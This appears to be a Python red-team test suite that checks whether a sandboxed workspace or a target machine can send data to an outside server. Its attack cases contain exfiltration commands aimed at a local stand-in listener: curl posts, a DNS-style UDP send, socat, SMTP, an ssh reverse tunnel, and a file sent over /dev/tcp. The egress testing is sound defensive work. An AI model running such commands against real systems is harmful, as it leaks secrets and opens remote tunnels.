"""S3: from inside a workspace, or from a target, to somewhere else."""

import asyncio
import contextlib
import shlex
import shutil
import socket
import threading
from collections.abc import Iterator

import pytest

from redteam.stage import Stage
from redteam.suite import Evidence, Outcome, attack, guard, not_run
from relay_workspace.workspace_scene import typed
from sekisho.relay.workspace import sandbox
from sekisho.relay.workspace.sandbox import Sandbox, Seat
from sekisho.relay.workspace.store import Store
from ssh_under_test import PROMPT

NETWORK = "sandbox.command_line"


@guard(NETWORK)
def _network_off(patch: pytest.MonkeyPatch) -> None:
    """A sandbox that has the network of its host."""
    whole = sandbox.command_line

    def changed(store: Store, seat: Seat) -> list[str]:
        words = whole(store, seat)
        place = words.index("--unshare-all")
        shared = ["--unshare-pid", "--unshare-ipc", "--unshare-uts"]
        return [*words[:place], *shared, *words[place + 1 :]]

    patch.setattr(sandbox, "command_line", changed)


class Outside:
    """Somebody's own server on the network: TCP and UDP on one port; `got` is what came."""

    def __init__(self) -> None:
        self.got = b""
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self._threads = [threading.Thread(target=one, daemon=True) for one in (self._accept, self._receive)]
        for thread in self._threads:
            thread.start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                client, _ = self._tcp.accept()
                with client:
                    client.settimeout(2)
                    with contextlib.suppress(OSError):
                        client.sendall(b"220 outside ESMTP\r\n")
                        while data := client.recv(4096):
                            self.got += data
                            client.sendall(b"250 yes\r\n")

    def _receive(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                self.got += self._udp.recv(4096)

    def close(self) -> None:
        # A thread that waits in accept or recv is woken by a shutdown, not by a close.
        for one in (self._tcp, self._udp):
            with contextlib.suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
        for thread in self._threads:
            thread.join(5)
        self._tcp.close()
        self._udp.close()


@contextlib.contextmanager
def outside() -> Iterator[Outside]:
    server = Outside()
    try:
        yield server
    finally:
        server.close()


def _from_workspace(name: str, en: str, ja: str, command: str) -> None:
    @attack(name, en, ja, guards=(NETWORK,))
    async def one(stage: Stage) -> Evidence:
        folder = stage.door.folder / f"workspace-{name}"
        shutil.rmtree(folder, ignore_errors=True)
        store = Store.open(folder, bytes(32), quota=1 << 20)
        with outside() as server:
            box = await Sandbox.start(store, Seat("sato.T-0001", "callcentre"))
            try:
                terminal = await box.shell(("shell",), 200, 40)
                word = shlex.quote(stage.word)
                await typed(terminal, f"timeout 6 {command.format(port=server.port, word=word)}")
            finally:
                await box.close()
            got = server.got
        return Evidence(int(stage.word.encode() in got or b"SSH-2.0-" in got))


def _python(source: str) -> str:
    return "python3 -c " + shlex.quote(source)


_from_workspace(
    "S3-01", "a workspace: curl", "作業領域から curl", "curl -s -m 5 -d {word} http://127.0.0.1:{port}/"
)
_from_workspace(
    "S3-02",
    "a workspace: a DNS query",
    "作業領域から DNS の問い合わせ",
    _python(
        "import socket; socket.socket(2, 2).sendto(b'\\0\\7\\1\\0\\0\\1' + b'{word}', ('127.0.0.1', {port}))"
    ),
)
_from_workspace(
    "S3-03",
    "a workspace: socat, as nc",
    "作業領域から socat（nc）",
    "bash -c 'echo {word} | socat -t 1 - TCP:127.0.0.1:{port}'",
)
_from_workspace(
    "S3-04",
    "a workspace: mail",
    "作業領域からメール",
    _python("import smtplib; smtplib.SMTP('127.0.0.1', {port}, timeout=3).docmd('MAIL FROM:<{word}>')"),
)
_from_workspace(
    "S3-05",
    "a workspace: a second ssh, a reverse tunnel",
    "作業領域から ssh、逆トンネル",
    "ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=4 -R 2200:127.0.0.1:22 "
    "-p {port} {word}@127.0.0.1",
)


@attack(
    "S3-10",
    "a target: any connection of its own (curl, DNS, mail, a reverse tunnel)",
    "対象機から外への通信（curl、DNS、メール、逆トンネル）",
    ends=Outcome.NOT_STOPPED,
    why=(
        "a target's network is not the checkpoint's: close it on the target; what was typed is in the recording",
        "対象機のネットワークは関所の外にある。対象機の側で閉じること。打った内容は録画に残る",
    ),
)
async def from_target(stage: Stage) -> Evidence:
    ticket = await stage.ticket()
    with outside() as server:
        async with stage.door.shell(ticket) as shell:
            await shell.until(PROMPT)
            await shell.type(f"cat {stage.secret} > /dev/tcp/127.0.0.1/{server.port}; echo en''d; exit\n")
            await shell.until("end\r\n")
            await shell.ended()
        async with asyncio.timeout(10):
            while not server.got:  # noqa: ASYNC110 (another thread's)
                await asyncio.sleep(0.01)
        out = server.got.count(stage.word.encode())
    return await stage.evidence(ticket, out)


not_run(
    "S3-11",
    "root of the checkpoint reads the memory of an open workspace",
    "関所の root が開いている作業領域のメモリを読む",
    "whoever holds the machine holds what passes while it passes",
    "機械を握る者は、通過中のデータを読める",
)
